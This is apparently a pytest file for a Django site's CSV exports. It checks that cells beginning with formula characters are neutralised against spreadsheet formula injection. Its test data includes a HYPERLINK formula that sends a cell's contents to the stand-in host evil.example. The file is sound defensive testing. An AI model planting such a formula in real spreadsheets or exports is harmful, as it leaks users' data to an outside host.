"""Every CSV export of the site, fed values a spreadsheet would run as formulas: no cell of
any export may begin with a formula character (issue 12, finding 3)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.urls import reverse

from communities.models import Membership
from outcomes.models import ConfidenceRating
from reflections.models import Reflection
from sessions.models import Attendance
from tests.factories import (
    ActionFactory,
    MembershipFactory,
    OutcomeFactory,
    ReflectionFactory,
    SessionFactory,
    UserFactory,
)
from tests.reviews.builders import peer_review, review_round, shared_work

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("https://evil.example/?x="&B3,"Open report")'
# Every prefix a spreadsheet reads as a formula (or that hides one behind a tab or return).
PREFIXES = ("=", "+", "-", "@", "\t", "\r")
FEB = "period=custom&start=2026-02-01&end=2026-02-28"


def at(*args) -> dt.datetime:
    return dt.datetime(*args, tzinfo=dt.UTC)


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(at(2026, 3, 15, 12), tick=False):
        yield


@pytest.fixture
def evil(riverside, bob, erin):
    """The cast's Riverside, renamed so that its name, outcome, members, reflections, work
    and actions all carry formulas, with enough people (five and more, built here) that
    every figure is shown; bob is its facilitator, and erin the leader who exports."""
    community = riverside
    community.name = EVIL
    community.save(update_fields=["name"])
    outcome = OutcomeFactory(community=community, statement="+SUM(1,2)")
    people = [
        MembershipFactory(
            community=community,
            joined_at=at(2025, 12, 1),
            user=UserFactory(display_name=f"@evil{i}"),
        ).user
        for i in range(6)
    ]
    session = SessionFactory(community=community, starts_at=at(2026, 2, 10), title="-2+3")
    round_ = review_round(session, [outcome])
    for person in people:
        Attendance.objects.create(session=session, user=person)
        ReflectionFactory(
            community=community,
            author=person,
            title="=1+1",
            body="\t=cmd",
            outcome=outcome,
            session=session,
            visibility=Reflection.Visibility.COMMUNITY,
            created_at=at(2026, 2, 11),
        )
        ConfidenceRating.objects.create(
            user=person, outcome=outcome, rating=3, created_at=at(2026, 2, 12)
        )
    for reviewer, author in zip(people, people[1:] + people[:1], strict=True):
        work = shared_work(session, author, title="@work", created_at=at(2026, 2, 10))
        peer_review(round_, work, reviewer, "submitted", stage="developing",
                    submitted_at=at(2026, 2, 14))  # fmt: skip
    ActionFactory(community=community, owner=people[0], title="=act", created_at=at(2026, 2, 3))
    Membership.objects.filter(community=community, user=bob).update(joined_at=at(2025, 12, 1))
    return {"community": community, "people": people, "leader": erin,
            "facilitator": bob}  # fmt: skip


def cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


def test_no_export_lets_a_cell_begin_with_a_formula(client, evil):
    slug = evil["community"].slug
    client.force_login(evil["leader"])
    page = client.get(f"/c/{slug}/dashboard/?{FEB}")
    names = [chart.name for chart in page.context["picture"].charts]
    # Outcome progress and peer-review stages carry the outcome's statement: both are here.
    assert {"progress", "stages", "headline", "equity"} <= set(names)
    exports = {
        name: client.get(f"/c/{slug}/dashboard/?{FEB}&format=csv&chart={name}") for name in names
    }
    exports["portfolio"] = client.get(f"/dashboard/?{FEB}&format=csv&chart=portfolio")
    client.force_login(evil["people"][0])
    exports["my reflections"] = client.get(reverse("reflections:export_csv"))

    seen = set()
    for name, response in exports.items():
        for cell in cells(response):
            assert not cell.startswith(PREFIXES), (name, cell)
            seen.add(cell)
    # The values are there, made inert rather than dropped.
    assert "'" + EVIL in seen
    assert "'+SUM(1,2)" in seen
    assert "'=1+1" in seen


def test_the_one_writer_neutralises_every_formula_prefix():
    from core.csvs import csv_text

    text = csv_text(["name", "n"], [[f"{p}1+1" for p in PREFIXES] + [-3, 0.5, None]])

    header, row = list(csv.reader(io.StringIO(text)))
    assert header == ["name", "n"]
    assert row == ["'=1+1", "'+1+1", "'-1+1", "'@1+1", "'\t1+1", "'\r1+1", "-3", "0.5", ""]
